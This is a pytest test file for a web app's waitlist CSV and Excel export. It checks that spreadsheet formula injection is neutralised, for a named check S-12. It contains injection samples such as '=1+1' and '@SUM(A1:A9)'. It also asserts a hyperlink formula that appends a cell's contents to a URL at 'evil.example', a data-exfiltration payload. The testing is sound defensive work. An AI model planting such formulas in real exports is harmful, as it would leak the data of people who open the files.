"""Exports carry no formulas (S-12): the writer by itself, and the waitlist through its doors."""

from __future__ import annotations

import csv
from datetime import datetime
from io import BytesIO, StringIO
from typing import Any

import pytest
from openpyxl import load_workbook

from accounts.exports import HEADS
from accounts.models import WaitlistEntry
from records.exports import Value, csv_file, excel_file, harmless
from tests.builders import make_confirmed
from tests.formulas import PAYLOADS, live_in_csv, live_in_excel

TYPED = ("name", "email", "organisation_name", "consent", "note")  # what somebody wrote


def sheet_of(content: bytes) -> Any:
    return load_workbook(BytesIO(content)).active


def test_the_rule_finds_what_it_looks_for():
    """Each payload as it was typed would be found, were it not marked."""
    rows = StringIO()
    csv.writer(rows, quoting=csv.QUOTE_ALL).writerows([[payload] for payload in PAYLOADS])
    found = [payload for payload in PAYLOADS if live_in_csv(csv_of([[payload]]))]
    harmless_as_typed = {'","=1+1', "a\t=1+1"}
    assert set(PAYLOADS) - set(found) == harmless_as_typed


def csv_of(rows):
    text = StringIO(newline="")
    csv.writer(text, quoting=csv.QUOTE_ALL).writerows(rows)
    return text.getvalue().encode("utf-8-sig")


@pytest.mark.check("S-12")
@pytest.mark.parametrize("column", range(len(HEADS)), ids=HEADS)
def test_no_column_of_the_writer_carries_a_formula(column, figure):
    rows = [["x"] * column + [payload] + ["x"] * (len(HEADS) - column - 1) for payload in PAYLOADS]
    live = live_in_csv(csv_file(HEADS, rows)) + live_in_excel(excel_file("Waitlist", HEADS, rows))
    figure("S-12", cells=2 * len(PAYLOADS), live=live)
    assert live == 0


@pytest.mark.check("S-12")
def test_no_export_of_the_waitlist_carries_a_formula(cast, sign_in, figure):
    for number, typed in enumerate(PAYLOADS):
        payload = typed.replace("\x00", "\x01")  # PostgreSQL keeps no null byte
        make_confirmed(**dict.fromkeys(TYPED, f"{payload}{number}"))
    client = sign_in(cast.programme_admin)
    text = client.get("/programme/waitlist/export/csv/").content
    book = client.get("/programme/waitlist/export/xlsx/").content
    live = live_in_csv(text) + live_in_excel(book)
    figure("S-12", cells=2 * len(PAYLOADS) * len(TYPED), live=live)
    assert live == 0
    rows = list(csv.reader(StringIO(text.decode("utf-8-sig"), newline="")))
    assert (rows[0], len(rows)) == (list(HEADS), 1 + len(PAYLOADS))
    sheet = sheet_of(book)
    assert [cell.value for cell in sheet[1]] == list(HEADS)
    names = {row[0].value for row in sheet.iter_rows(min_row=2)}
    assert {f"=1+1{0}", "@SUM(A1:A9)3", '=HYPERLINK("https://evil.example?"&A1,"Open")24'} <= names


@pytest.mark.parametrize(
    ("text", "marked"),
    [
        ("Ada Byron", "Ada Byron"),
        ("", ""),
        ("Smith-Jones + Sons", "Smith-Jones + Sons"),
        ("=1", "'=1"),
        ("a\n=1\nb", "a\n'=1\nb"),
        ("a\n\nb", "a\n\nb"),
        ("\nb", "'\nb"),
        ("x; -y", "x;' -y"),
        ("   ", "   "),
    ],
)
def test_only_what_could_run_is_marked(text, marked):
    assert harmless(text) == marked


def test_values_keep_their_kind():
    moment = datetime(2026, 11, 28, 14, 2)  # noqa: DTZ001  # a file knows no zones
    rows: list[list[Value]] = [["Ada", 3, moment, None]]
    sheet = sheet_of(excel_file("Sheet", ["a", "b", "c", "d"], rows))
    assert [cell.value for cell in sheet[2]] == ["Ada", 3, moment, None]
    assert csv_file(["a", "b", "c", "d"], rows).decode("utf-8-sig").splitlines()[1] == (
        '"Ada","3","2026-11-28 14:02",""'
    )


@pytest.mark.parametrize(
    "text", ["=" + "x" * 32_767, "👩" * 16_384, ("=line of words\n" * 300 + "\n") * 20, "y" * 70_000]
)
def test_a_text_that_no_cell_can_hold_goes_on_in_the_next_row(text):
    sheet = sheet_of(excel_file("Sheet", ["a", "b", "c"], [["Ada", text, 3], ["Ben", "short", 4]]))
    *first, last = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)]
    assert last == ["Ben", "short", 4]
    assert [row[0] for row in first] == ["Ada"] * len(first)
    assert [row[2] for row in first] == [3] + [None] * (len(first) - 1)
    goes_on = "\n(The text goes on in the next row.)"
    assert all(row[1].endswith(goes_on) for row in first[:-1]) and len(first) > 1
    assert "".join(row[1].removesuffix(goes_on) for row in first) == text
    assert all(len(row[1].encode("utf-16-le")) <= 2 * 32_767 for row in first)


def test_a_text_that_just_fits_stays_in_its_cell():
    sheet = sheet_of(excel_file("Sheet", ["a", "b"], [["Ada", "x" * 32_767]]))
    assert (sheet.max_row, len(sheet["B2"].value)) == (2, 32_767)


def test_an_export_says_what_the_list_says(cast, sign_in):
    entry = make_confirmed(name="Ada Byron", note="First line\nsecond", updates=True)
    make_confirmed(name="Left out", kind="cdmo")
    client = sign_in(cast.programme_admin)
    reply = client.get("/programme/waitlist/export/csv/?kind=manufacturer")
    (row,) = list(csv.DictReader(StringIO(reply.content.decode("utf-8-sig"), newline="")))
    assert (row["Name"], row["E-mail"], row["Country"]) == ("Ada Byron", entry.email, "Denmark")
    assert (row["State"], row["Note"]) == ("Confirmed", "First line\nsecond")
    assert row["Interests"] == "Early access for one of our sites, Updates"
    assert reply["Content-Disposition"].startswith('attachment; filename="waitlist-2')
    assert reply["Content-Type"] == "text/csv; charset=utf-8"
    assert reply["Cache-Control"] == "no-store"
    assert WaitlistEntry.objects.count() == 2
